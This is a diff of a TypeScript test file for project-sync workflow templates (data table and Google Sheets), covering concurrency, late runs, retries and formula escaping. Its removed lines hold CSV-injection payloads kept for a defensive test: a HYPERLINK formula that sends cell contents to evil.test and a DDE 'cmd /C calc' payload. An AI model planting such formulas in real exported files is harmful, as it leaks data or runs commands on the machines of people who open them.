@@ -54,12 +54,11 @@ const APP = {
 	updated_at: '2026-05-04T14:21:07Z',
 };
 
-/** Runs the nodes of a template on items such as its trigger gives. */
-async function runOn(file: string, items: readonly Row[]): Promise<void> {
-	const pinData = { 'Collab Trigger': items.map((json) => ({ json })) };
-	outside.messages.splice(0);
+/** Runs the nodes of a template on items such as its trigger gives, or the node named. */
+async function runOn(file: string, items: readonly Row[], pinned = 'Collab Trigger') {
+	const pinData = { [pinned]: items.map((json) => ({ json })) };
 	const draft = { ...entered(await example(file)), pinData };
-	expect(errorOf(await stage.run(draft, 'Collab Trigger'))).toBeUndefined();
+	return await stage.run(draft, 'Collab Trigger');
 }
 
 it('a daily sheet keeps the rows of yesterday where the new ones cannot be written', async () => {
@@ -74,12 +73,14 @@ it('a daily sheet keeps the rows of yesterday where the new ones cannot be writt
 	expect(outside.rowsOn('Active')).toMatchObject([{ name: 'Today' }]);
 });
 
+const TABLE = 'sync-projects-to-data-table.json';
+const SHEET = 'sync-projects-to-google-sheets.json';
 const ODD = { name: 'C', start_date: '2026-03-08', end_date: 'TBD' };
 
-it('sync-projects-to-data-table.json makes and fills the table, then keeps it', async () => {
+it(`${TABLE} makes and fills the table, then keeps it`, async () => {
 	hold([{ name: 'A' }, { name: 'B', updated_at: '2026-01-01T00:00:00Z' }, ODD]);
 	const table = async () => by('name', await syncedRows(stage));
-	const workflow = await stage.publish(await example('sync-projects-to-data-table.json'));
+	const workflow = await stage.publish(await example(TABLE));
 	await stage.next(workflow);
 	expect(await table()).toMatchObject([{ name: 'A' }, { name: 'B' }, { name: 'C' }]);
 	const [a, b] = by('name', store().all());
@@ -93,7 +94,7 @@ it('sync-projects-to-data-table.json makes and fills the table, then keeps it', 
 	}
 	await stage.unpublish(workflow);
 	const unusable = { task_count: 'many', created_at: 'once', updated_at: '', start_date: '' };
-	await runOn('sync-projects-to-data-table.json', [
+	await runOn(TABLE, [
 		{ ...APP, name: 'E', ...unusable, event: 'created' },
 		{ ...store().all().at(-1), event: 'removed', is_test: true },
 	]);
@@ -111,28 +112,74 @@ it('sync-projects-to-data-table.json makes and fills the table, then keeps it', 
 	]);
 });
 
-/** What a spreadsheet program takes for a formula (OWASP, "CSV Injection"), and what becomes of it. */
-const FORMULAS = [
-	...['=HYPERLINK("https://evil.test/?"&A1,"Open")', '+1+1', '-1+1', '@SUM(1,1)'],
-	"=cmd|' /C calc'!A0",
-].map((formula) => [formula, `'${formula}`]);
-const IN_CELLS = [
-	...['\t', '\r', '\n'].map((start) => [`${start}=1+1`, `${start}'=1+1`]),
-	['Roadmap;=1+1', "Roadmap;'=1+1"],
-	['Roadmap; "@SUM(1)', 'Roadmap; "\'@SUM(1)'],
-	['Roadmap\n+1+1', "Roadmap\n'+1+1"],
-];
-const HARMLESS = ['Website', 'a=b', '3-2; 1', "It's fine", ' =1+1', ''].map((text) => [text, text]);
+it('a table that is still being filled keeps what changes meanwhile', async () => {
+	hold(Array.from({ length: 150 }, (_, at) => ({ name: `Old ${at}` })));
+	const workflow = await stage.publish(await example(TABLE));
+	const all = store().all();
+	all.slice(-50).forEach(({ id }) => store().update(id, { name: 'New' }));
+	for (let executions = 0; executions < 2; executions++) await stage.next(workflow);
+	await stage.unpublish(workflow);
+	const rows = (await syncedRows(stage)).filter(({ name }) => /^(Old|New)/.test(String(name)));
+	const ofStore = store()
+		.all()
+		.map(({ id, name }) => ({ project_id: id, name }));
+	expect(by('project_id', rows)).toMatchObject(by('project_id', ofStore));
+});
+
+it('a run that comes late to the table changes nothing that a later one wrote or removed', async () => {
+	const late = ['Changed', 'Removed', 'Lacking'].map((name) => {
+		return { project_id: `late ${name}`, name, last_event: 'existing', execution: 1 };
+	});
+	const item = { ...APP, id: 'late Changed', name: 'Changed anew', event: 'updated' };
+	const table = async () => {
+		expect(errorOf(await runOn(TABLE, late, 'Row of the Table'))).toBeUndefined();
+		const rows = by('name', await syncedRows(stage));
+		return rows.filter(({ project_id }) => String(project_id).startsWith('late'));
+	};
+	await runOn(TABLE, [item, { id: 'late Removed', name: 'Removed', event: 'removed' }]);
+	expect(await table()).toMatchObject([{ name: 'Changed anew' }, { name: 'Lacking' }]);
+	// Thirty days later, nothing says any more that it was removed.
+	const forgetful = await example(TABLE, {
+		'Delete Old Marks': (node) =>
+			JSON.parse(JSON.stringify(node).replace('days: 30', 'days: 0')) as typeof node,
+	});
+	const pinData = { 'Collab Trigger': [{ json: item }] };
+	await stage.run({ ...forgetful, pinData } as WorkflowDraft, 'Collab Trigger');
+	expect(await table()).toHaveLength(3);
+});
+
+it('a failed run that is retried adds to a sheet what is lacking, and puts nothing old over what is new', async () => {
+	Object.assign(outside.sheets, { Projects: [] });
+	const of = (id: string, name: string, updated_at: string) => ({ ...APP, id, name, updated_at });
+	const before = [of('p1', 'Old', '2026-05-04T14:00:00Z'), of('p2', 'Removed', APP.updated_at)];
+	const items = [...before, of('p3', 'Lacking', APP.updated_at)];
+	outside.refusals.splice(0, Infinity, ...Array<number>(9).fill(503));
+	const failed = await runOn(
+		SHEET,
+		items.map((item) => ({ ...item, event: 'existing' })),
+	);
+	expect(errorOf(failed)).toMatch(/^Retry this execution later.*Service unavailable/);
+	const retry = () => stage.session.post(`/executions/${failed.id}/retry`, { loadWorkflow: false });
+	expect(await retry()).toMatchObject({ status: 'error' });
+	outside.refusals.splice(0);
+	await runOn(SHEET, [
+		{ ...of('p1', 'New', APP.updated_at), event: 'updated' },
+		{ id: 'p2', name: 'Removed', status: 'active', event: 'removed' },
+	]);
+	expect(await retry()).toMatchObject({ status: 'success' });
+	expect(outside.rowsOn('Projects')).toMatchObject([
+		{ name: 'New', event: 'updated' },
+		{ name: 'Removed', event: 'removed', status: 'removed' },
+		{ name: 'Lacking', event: 'existing' },
+	]);
+});
+
 const NESTED = { meta: { note: '=1+1', more: ';=1+1' }, tags: ['=1+1'] };
 
-it(`${SPREADSHEET} puts an apostrophe before what would be a formula, in whichever way cells are separated`, async () => {
-	const texts = [...FORMULAS, ...IN_CELLS, ...HARMLESS];
-	hold(texts.map(([name]) => ({ name, description: name, task_count: 3, ...NESTED })));
+it(`${SPREADSHEET} writes texts that no program takes for formulas`, async () => {
+	hold([{ name: '=1+1', description: 'Roadmap;\u00A0@SUM(1)', task_count: 3, ...NESTED }]);
 	const { rows } = await makeSpreadsheet(stage, await stage.create(await example(SPREADSHEET)));
-	const expected = texts.map(([, text]) => text).sort();
-	expect(rows.map(({ name }) => name).sort()).toEqual(expected);
-	expect(rows.map(({ description }) => description).sort()).toEqual(expected);
 	const meta = JSON.stringify(NESTED.meta).replace(';=', ";'=");
-	const rest = { task_count: '3', meta, tags: JSON.stringify(NESTED.tags) };
-	expect(rows).toMatchObject(rows.map(() => rest));
+	const texts = { name: "'=1+1", description: "Roadmap;\u00A0'@SUM(1)", meta };
+	expect(rows).toMatchObject([{ ...texts, task_count: '3', tags: JSON.stringify(NESTED.tags) }]);
 });
